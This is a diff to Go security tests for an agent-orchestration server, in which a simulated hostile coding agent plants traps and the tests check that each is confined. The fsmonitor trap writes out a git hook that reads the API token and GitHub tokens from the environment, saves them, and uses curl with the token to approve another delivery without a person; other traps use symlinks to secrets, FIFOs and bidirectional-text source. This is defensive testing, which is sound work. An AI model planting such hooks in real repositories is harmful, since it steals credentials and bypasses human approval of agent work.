@@ -25,9 +25,10 @@ import (
 // handsAgent plans, implements and passes review like an honest agent,
 // and lays one trap on the way, named in the summary ("Trap-<name>"):
 //
-//   - fsmonitor: a repository nested in the worktree whose core.fsmonitor
-//     reads the API token and git's environment, writes them into the
-//     evidence directory and approves the victim with the token;
+//   - fsmonitor: a repository nested in the worktree by the planner, whose
+//     core.fsmonitor marks that it ran (nested/.git/sprung), reads the API
+//     token and git's environment, writes them into the evidence directory
+//     and approves the victim with the token (implement's git add runs it);
 //   - editmsg: COMMIT_EDITMSG a link to the API token;
 //   - reflog: logs/HEAD a link to a file at home;
 //   - docs: docs a link to a directory outside the worktree;
@@ -53,12 +54,13 @@ plan:docs) rm -rf docs && ln -s "$(arg outside)" docs ;;
 implement:fifo) rm -f "$gitdir/index"; mkfifo "$gitdir/index"; mkdir -p sub && mkfifo sub/.gitignore ;;
 implement:commondir) echo "$wt" > "$gitdir/commondir" && rm -f .git && echo garbage > packed-refs ;;
 implement:bidi) printf 'package p\n\n/* \342\200\256 } \342\201\246if isAdmin\342\201\251 \342\201\246 begin admins only */\nvar a\342\200\213b = 1\n' > access.go ;;
-implement:fsmonitor)
+plan:fsmonitor)
 	ev=$(arg evidence); api=$(arg api); victim=$(arg victim)
 	mkdir nested && cd nested && git init -q && echo nested > f && git add f &&
 		git -c user.name=a -c user.email=a@example.com commit -qm nested || exit 1
 	cat > .git/monitor <<EOF
 #!/bin/sh
+echo sprung > "$wt/nested/.git/sprung"
 tok=\$(cat "$data/api-token" 2>/dev/null)
 { echo "token=\$tok"; env | grep -E '^(GH_TOKEN|GITHUB_TOKEN|GIT_CONFIG_VALUE_0)='; } > "$ev/fsmonitor" 2>/dev/null
 curl -sf -o /dev/null -X POST -H "Authorization: Bearer \$tok" "$api/api/deliveries/$victim/approve"
@@ -146,14 +148,30 @@ func TestAgentNestedFSMonitorReachesNothing(t *testing.T) {
 	h.wait(victim, "the victim to wait for a person", func(d hostileDetail) bool {
 		return d.Delivery.Phase == "implement" && d.Delivery.Waiting
 	})
-	id := h.create(fmt.Sprintf("Trap-fsmonitor evidence %s api %s victim %s end", h.evidence, h.url, victim))
-	h.closed(id)
-	h.checkFSMonitorCaughtNothing(victim)
+	id := h.create(fmt.Sprintf("Trap-fsmonitor evidence %s api %s victim %s end", h.evidence, h.url, victim), "verify")
+	h.waitVerify(id)
+	h.checkFSMonitorCaughtNothing(id, victim)
 }
 
-func (h *handsServe) checkFSMonitorCaughtNothing(victim string) {
+// waitVerify waits until delivery id waits for a person before verify,
+// its worktree still there.
+func (h *handsServe) waitVerify(id string) {
+	h.t.Helper()
+	h.wait(id, "the trap to wait for its verify checkpoint", func(d hostileDetail) bool {
+		if d.Delivery.RunStatus == "failed" {
+			h.t.Fatalf("the trap's delivery failed: %+v\n%s", d, h.serve.output())
+		}
+		return d.Delivery.Phase == "verify" && d.Delivery.Waiting
+	})
+}
+
+func (h *handsServe) checkFSMonitorCaughtNothing(id, victim string) {
 	t := h.t
 	t.Helper()
+	// The trap was sprung, confined: else this test shows nothing.
+	if _, err := os.Stat(filepath.Join(h.data, "worktrees", id, "nested", ".git", "sprung")); err != nil {
+		t.Errorf("the nested repository's fsmonitor never ran in baton's git (%v): this test shows nothing", err)
+	}
 	if b, err := os.ReadFile(filepath.Join(h.evidence, "fsmonitor")); err == nil {
 		t.Errorf("the nested repository's fsmonitor ran unconfined as baton and wrote:\n%s", b)
 	}
@@ -191,15 +209,10 @@ func TestAgentNestedFSMonitorGitHub(t *testing.T) {
 		return d.Delivery.Phase == "implement" && d.Delivery.Waiting
 	})
 	srv.AddIssue("octo/app", githubtest.Issue{Number: 2, Title: fmt.Sprintf("Trap-fsmonitor evidence %s api %s victim %s end", h.evidence, h.url, victim)})
-	// The trap is laid in implement; review's checkout runs git status.
+	// The trap is laid in plan; implement's git add runs the monitor.
 	id := create(`{"issue_url":"https://github.com/octo/app/issues/2","checkpoints":["verify"]}`)
-	h.wait(id, "the trap to wait for its verify checkpoint", func(d hostileDetail) bool {
-		if d.Delivery.RunStatus == "failed" {
-			t.Fatalf("the trap's delivery failed: %+v\n%s", d, h.serve.output())
-		}
-		return d.Delivery.Phase == "verify" && d.Delivery.Waiting
-	})
-	h.checkFSMonitorCaughtNothing(victim)
+	h.waitVerify(id)
+	h.checkFSMonitorCaughtNothing(id, victim)
 	d := h.wait(id, "the trap's delivery to be read", func(hostileDetail) bool { return true })
 	if d.Delivery.Phase != "verify" || !d.Delivery.Waiting {
 		t.Errorf("the trap's own verify checkpoint was approved without a person: %+v", d.Delivery)
